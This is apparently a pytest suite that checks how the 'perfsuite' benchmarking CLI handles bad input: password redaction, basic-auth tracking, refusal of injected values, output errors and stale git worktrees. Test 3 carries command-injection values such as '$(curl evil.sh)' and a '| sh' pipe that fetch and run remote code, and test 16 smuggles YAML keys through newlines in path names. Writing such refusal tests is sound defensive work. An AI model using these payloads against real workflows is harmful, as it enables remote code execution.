"""Issue #24's classes of bad input, each driven the way a user meets it: the `perfsuite` command or `pytest benches`
in a child process, asserting the message, the exit code and that nothing was lost or leaked.

The classes whose own tests already run the user's command (5, 6, 9, 11, 19, 20, 21, 23, and 7's SIGTERM) are not
repeated here; the unit-level tests of the others stay where they are, next to the code they pin down.
"""

from __future__ import annotations

import base64
import http.server
import json
import os
import subprocess
import sys
import threading
from pathlib import Path

import pytest
import yaml

from conftest import FAST_POLICY, REPO, as_overrides
from history_runs import history_run
from test_gate_replicates import write_run


def perfsuite(*args: str, cwd: Path | None = None, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """`perfsuite ARGS` as a user types it: a process of its own, its exit status and both streams."""
    return subprocess.run([sys.executable, "-m", "perfsuite.cli", *args], capture_output=True, text=True, cwd=cwd, timeout=timeout,
                          env={**os.environ, "PYTHONPATH": str(REPO)})


def usage_error(done: subprocess.CompletedProcess[str], *messages: str) -> None:
    """Exit 2 (never 1, which means 'regressed' to CI), each message on stderr, no traceback anywhere."""
    assert done.returncode == 2, (done.returncode, done.stdout, done.stderr)
    for message in messages:
        assert message in done.stderr, (message, done.stderr)
    assert "Traceback" not in done.stdout + done.stderr


def tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


# -- 1: passwords given in a config file (the command line's are in test_tracking_e2e) ---------------------------------


def test_1_a_password_in_a_config_files_tracking_uri_is_in_no_file_report_or_output(pytester: pytest.Pytester, tmp_path: Path):
    conf = tmp_path / "user_conf"
    (conf / "suite").mkdir(parents=True)
    (conf / "suite" / "secret.yaml").write_text(
        "name: secret\ndescription: a tracker URI with a password, in YAML\nmodels: [gpt2.tiny]\ndatasets: [pydoc]\nbatch_sizes: [1]\n"
        "overrides:\n  - output.tracking=[mlflow]\n  - output.trackers.mlflow.tracking_uri=http://dora:YAMLPW4@127.0.0.1:1/\n"
        "  - output.trackers.mlflow.timeout_s=0.5\n")
    out = tmp_path / "out"
    result = pytester.runpytest_subprocess(str(REPO / "benches"), "-p", "no:cacheprovider", "--perf-conf-dir", str(conf), "--perf-suite", "secret",
                                           "--perf-out-dir", str(out), "-k", "test_latency", "--perf-history", "postgresql://eve:HISTPW5@127.0.0.1:1/perf",
                                           *as_overrides(list(FAST_POLICY)))
    result.assert_outcomes(passed=1)
    assert result.ret == 0
    shown = "\n".join(ln for ln in result.outlines + result.errlines if not ln.startswith(("running: ", "     in: ")))
    assert "dora:***@127.0.0.1:1" in shown  # the tracker that failed is named, without its password
    (run_dir,) = (out / "runs").iterdir()
    track = perfsuite("track", str(run_dir), "--to", "mlflow", "--mlflow-uri", "http://frank:CLIPW6@127.0.0.1:1/", "--timeout-s", "0.5")
    report = perfsuite("report", str(run_dir), "-o", str(tmp_path / "again.html"))
    assert report.returncode == 0, report.stderr
    shown += track.stdout + track.stderr + report.stdout + report.stderr
    assert "frank:***@127.0.0.1:1" in shown
    files = [p for p in [*out.rglob("*"), tmp_path / "again.html"] if p.is_file()]
    assert {"run_config.yaml", "tracking.json", "report.html", "results.json", "env.json"} <= {p.name for p in files}
    for secret in ("YAMLPW4", "HISTPW5", "CLIPW6"):
        assert secret not in shown, secret
        assert not [str(p) for p in files if secret.encode() in p.read_bytes()], secret


# -- 2: `perfsuite track` to a server behind basic auth ------------------------------------------------------------------


def test_2_track_to_a_server_behind_basic_auth_reaches_it_and_never_says_it_did_not_answer(tmp_path: Path):
    seen: list[str | None] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def _answer(self):
            seen.append(self.headers.get("Authorization"))
            self.send_response(401 if self.headers.get("Authorization") is None else 404)
            self.send_header("Content-Type", "application/json")
            self.end_headers()
            self.wfile.write(b'{"error_code": "ENDPOINT_NOT_FOUND", "message": "not MLflow"}')

        do_GET = do_POST = _answer  # noqa: N815 - http.server's names

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    run = write_run(tmp_path / "out" / "runs" / "20260101-000000_s-cpu", {"a": 0.01})
    try:
        done = perfsuite("track", str(run), "--to", "mlflow", "--mlflow-uri", f"http://alice:PW7@127.0.0.1:{server.server_port}/", "--timeout-s", "2")
    finally:
        server.shutdown()
    text = done.stdout + done.stderr
    token = "Basic " + base64.b64encode(b"alice:PW7").decode()
    assert seen and seen[0] == token, seen  # the probe went to the host, the credentials as basic auth
    assert "did not answer" not in text and "Name or service not known" not in text and "Traceback" not in text, text
    assert "PW7" not in text and "tracking with mlflow failed" in text and "ENDPOINT_NOT_FOUND" in text, text  # the server's own answer
    assert done.returncode == 1, text  # track: 1 when a tracker failed (the run folder is untouched)
    assert b"PW7" not in (run / "tracking.json").read_bytes()


# -- 3, 15, 16: perfsuite init / perfsuite new ---------------------------------------------------------------------------


@pytest.mark.parametrize("option, value", [
    ("--runner-label", "$(curl evil.sh)"),
    ("--main-branch", "main\n  pull_request_target:"),
    ("--requirement", 'perfsuite"; curl evil.sh | sh; echo "'),
])
def test_3_init_refuses_a_value_that_would_inject_into_the_workflow_and_writes_nothing(tmp_path: Path, option: str, value: str):
    usage_error(perfsuite("init", str(tmp_path), "--no-check", option, value), option)
    assert list(tmp_path.iterdir()) == []


def test_3_init_writes_a_workflow_that_parses_with_the_requirement_in_env(tmp_path: Path):
    done = perfsuite("init", str(tmp_path), "--no-check", "--requirement", "perfsuite[cuda]>=0.1", "--main-branch", "release/2.x")
    assert done.returncode == 0, done.stderr
    flow = yaml.safe_load((tmp_path / ".github" / "workflows" / "perf.yml").read_text())
    install = next(s for s in flow["jobs"]["benchmark"]["steps"] if s.get("name") == "Install perfsuite")
    assert install["env"]["PERFSUITE_REQUIREMENT"] == "perfsuite[cuda]>=0.1" and "perfsuite[cuda]>=0.1" not in install["run"]


def test_15_init_beside_a_foreign_conf_config_yaml_writes_nothing_and_a_run_given_it_says_why(pytester: pytest.Pytester, tmp_path: Path):
    project = tmp_path / "proj"
    (project / "conf").mkdir(parents=True)
    (project / "conf" / "config.yaml").write_text("defaults: [db: mysql]\n")
    before = tree(project)
    usage_error(perfsuite("init", str(project), "--no-check"), "conf/config.yaml exists", "--conf-dir perf_conf", "nothing was written")
    assert tree(project) == before
    result = pytester.runpytest_subprocess(str(REPO / "benches"), "-p", "no:cacheprovider", "--perf-conf-dir", str(project / "conf"),
                                           "--perf-out-dir", str(tmp_path / "out"), "--collect-only", "-q")
    assert result.ret == pytest.ExitCode.USAGE_ERROR
    assert "would replace perfsuite's own primary config" in result.stderr.str() + result.stdout.str()
    assert "Could not override 'suite'" not in result.stderr.str() + result.stdout.str()
    assert not (tmp_path / "out" / "runs").exists() or not any((tmp_path / "out" / "runs").iterdir())


def test_16_new_model_from_a_path_with_a_line_break_writes_nothing(tmp_path: Path):
    snap = tmp_path / "snap\nadapter: evil"
    snap.mkdir()
    (snap / "config.json").write_text(json.dumps({"model_type": "bert", "architectures": ["BertModel"], "num_hidden_layers": 1,
                                                   "hidden_size": 32, "max_position_embeddings": 64, "vocab_size": 100}))
    (snap / "model.safetensors").write_bytes(b"weights")
    usage_error(perfsuite("new", "model", "mine", "--from", str(snap), "--project", str(tmp_path), "--no-validate"),
                "has a line break, which cannot go into a generated file; nothing was written")
    assert not (tmp_path / "conf").exists()


def test_16_new_dataset_from_a_path_with_a_line_break_writes_nothing(tmp_path: Path):
    data = tmp_path / "data\nroot: elsewhere"
    data.mkdir()
    (data / "a.txt").write_text("some text to benchmark\n" * 20)
    usage_error(perfsuite("new", "dataset", "notes", "--from", str(data), "--project", str(tmp_path)),
                "has a line break, which cannot go into a generated file; nothing was written")
    assert not (tmp_path / "conf").exists() and not (tmp_path / "datasets").exists()


# -- 4, 8, 12: report and compare ----------------------------------------------------------------------------------------


def test_4_report_html_on_a_run_that_fails_validation_keeps_the_good_report(tmp_path: Path):
    run = tmp_path / "run"
    run.mkdir()
    (run / "results.json").write_text('{"schema_version": 2, "status": "finished", "results": [{"kind": 3}]}')
    good = "<html>the report written at the end of the run, with every case</html>"
    (run / "report.html").write_text(good)
    usage_error(perfsuite("report", str(run), "--html"), "results[0].kind", "report.html was left as it is", "-o NEW.html")
    assert (run / "report.html").read_text() == good


def test_8_an_output_file_that_cannot_be_written_is_exit_2_with_the_path(tmp_path: Path):
    out = tmp_path / "out"
    a = write_run(out / "runs" / "20260101-000000_s-cpu", {"a": 0.01}, seed=1)
    b = write_run(out / "runs" / "20260102-000000_s-cpu", {"a": 0.01}, seed=2)
    blocked = tmp_path / "file"
    blocked.write_text("")
    before = tree(out)
    for argv in (["compare", str(a), str(b), "--markdown", str(tmp_path)],  # a directory
                 ["compare", str(a), str(b), "--json", str(blocked / "v.json")],  # under a file
                 ["report", str(b), "-o", str(blocked / "r.html")]):
        done = perfsuite(*argv)
        usage_error(done, "perfsuite: error: ", str(tmp_path))
    assert tree(out) == before and blocked.read_text() == ""  # nothing of the runs replaced or lost


def test_12_a_negative_duration_in_results_json_is_refused_not_shown(tmp_path: Path):
    run = write_run(tmp_path / "out" / "runs" / "20260101-000000_s-cpu", {"a": 0.01})
    doc = json.loads((run / "results.json").read_text())
    doc["results"][0]["summary"]["p50_s"] = -7.03e-3
    (run / "results.json").write_text(json.dumps(doc))
    done = perfsuite("report", str(run))
    usage_error(done, "results[0].summary")
    assert "-7.03" not in done.stdout


# -- 10, 17: merge and baselines -----------------------------------------------------------------------------------------


def test_10_merging_a_killed_run_of_another_suite_says_so(tmp_path: Path):
    a = history_run(tmp_path / "a", 0, 0.010, machine="m-a")
    b = history_run(tmp_path / "b", 0, 0.030, machine="m-b")
    doc = json.loads((b.run_dir / "results.json").read_text())
    doc["status"], doc["suite"] = "running", "nightly"
    (b.run_dir / "results.json").write_text(json.dumps(doc))
    done = perfsuite("merge", str(a.run_dir), str(b.run_dir), "--out", str(tmp_path / "out"))
    assert done.returncode == 0, done.stderr
    assert "perfsuite: warning: the merged run is interrupted" in done.stdout and "status interrupted" in done.stdout
    (merged,) = (tmp_path / "out" / "runs").iterdir()
    merged_doc = json.loads((merged / "results.json").read_text())
    assert merged_doc["status"] == "interrupted" and merged_doc["suite"].endswith("+nightly")
    assert len(merged_doc["results"]) == len(json.loads((a.run_dir / "results.json").read_text())["results"]) + len(doc["results"])


def test_17_baseline_list_names_a_corrupt_baseline_and_lists_the_rest(tmp_path: Path):
    out = tmp_path / "out"
    run = write_run(out / "runs" / "20260101-000000_s-cpu", {"a": 0.01}, seed=1)
    for name in ("main", "nightly"):
        assert perfsuite("baseline", "save", name, "--run", str(run), "--out", str(out)).returncode == 0
    (broken,) = (out / "baselines").glob("*/main.json")
    broken.write_text("{not json")
    done = perfsuite("baseline", "list", "--out", str(out))
    usage_error(done, "1 of 2 baselines cannot be read", str(broken))
    assert any("main" in ln and "UNREADABLE" in ln for ln in done.stdout.splitlines())
    assert any("nightly" in ln and "1 results" in ln for ln in done.stdout.splitlines())
    assert broken.read_text() == "{not json"  # listed, not repaired or removed


# -- 18, 22: the CLI's own arguments -------------------------------------------------------------------------------------


@pytest.mark.parametrize("argv, message", [
    (["history", "--alpha", "2"], "argument --alpha: must be in (0, 1)"),
    (["history", "--permutations", "0"], "argument --permutations: must be 1 to 100000"),
    (["doctor", "--interval-s", "-1"], "argument --interval-s: must be in [0.05, 60]"),
])
def test_18_a_number_out_of_range_is_a_usage_error(argv: list[str], message: str, tmp_path: Path):
    usage_error(perfsuite(*argv, cwd=tmp_path), message)
    assert list(tmp_path.iterdir()) == []


def test_22_list_without_a_kind_lists_everything():
    done = perfsuite("list")
    assert done.returncode == 0, done.stderr
    headings = [ln for ln in done.stdout.splitlines() if ln and not ln.startswith(" ")]
    assert headings == ["suites:", "models:", "datasets:", "runtimes:"]
    assert "  smoke " in done.stdout and "  gpt2.tiny " in done.stdout


# -- 13, 14: a local snapshot with its own code, in a folder whose name needs quoting ------------------------------------


def test_13_14_a_snapshot_in_an_oddly_named_folder_runs_and_says_its_own_code_was_ignored(pytester: pytest.Pytester, tmp_path: Path):
    pytest.importorskip("transformers")
    from transformers import GPT2Config, GPT2Model

    models = tmp_path / "modèles <1> it's"
    snap = models / "g"
    GPT2Model(GPT2Config(n_layer=1, n_head=2, n_embd=32, n_positions=64, vocab_size=100)).save_pretrained(snap)
    config = json.loads((snap / "config.json").read_text())
    (snap / "config.json").write_text(json.dumps({**config, "auto_map": {"AutoModel": "modeling_fast.FastGPT2"}}))
    out = tmp_path / "out"
    result = pytester.runpytest_subprocess(str(REPO / "benches"), "-p", "no:cacheprovider", "--perf-out-dir", str(out), "--perf-models-dir", str(models),
                                           "--perf-suite", "smoke", "-k", "test_latency",
                                           *as_overrides(["model=g", "dataset=pydoc", "infer.batch_sizes=[1]", "infer.seq_len=10", *FAST_POLICY]))
    result.assert_outcomes(passed=1)
    assert result.ret == 0
    result.stdout.fnmatch_lines(["*model g: the snapshot ships its own modelling code*which perfsuite never runs*"])
    (run_dir,) = (out / "runs").iterdir()
    assert "which perfsuite never runs" in (run_dir / "results.json").read_text()
    assert "which perfsuite never runs" in (run_dir / "report.html").read_text()


# -- 7: a worktree left by a killed `perfsuite ab` -----------------------------------------------------------------------


def test_7_ab_after_a_killed_ab_replaces_its_stale_worktree_without_a_git_error(tmp_path: Path):
    def git(*args: str) -> str:
        return subprocess.run(["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@t", *args], check=True, capture_output=True,
                              text=True).stdout

    repo = tmp_path / "repo"
    (repo / "benches").mkdir(parents=True)
    (repo / "benches" / "test_quick.py").write_text("def test_quick():\n    pass\n")
    git("init", "-q")
    git("add", "-A")
    git("commit", "-qm", "base")
    out = tmp_path / "out"
    git("worktree", "add", "--detach", "--quiet", str(out / "ab-worktrees" / "a"), "HEAD")  # as a SIGKILLed ab leaves it
    done = perfsuite("ab", "--base", "HEAD", "--repo", str(repo), "--rounds", "1", "--out", str(out), "--benches", "benches", cwd=repo, timeout=120)
    text = done.stdout + done.stderr
    assert "already exists" not in text and "fatal:" not in text and "Traceback" not in text, text
    assert done.returncode == 0 and "ab: round 1/1 side a (git " in done.stdout, text  # the base side ran in a fresh worktree
    assert [ln for ln in git("worktree", "list", "--porcelain").splitlines() if ln.startswith("worktree ")] == [f"worktree {repo}"]
    assert not (out / "ab-worktrees" / "a").exists()
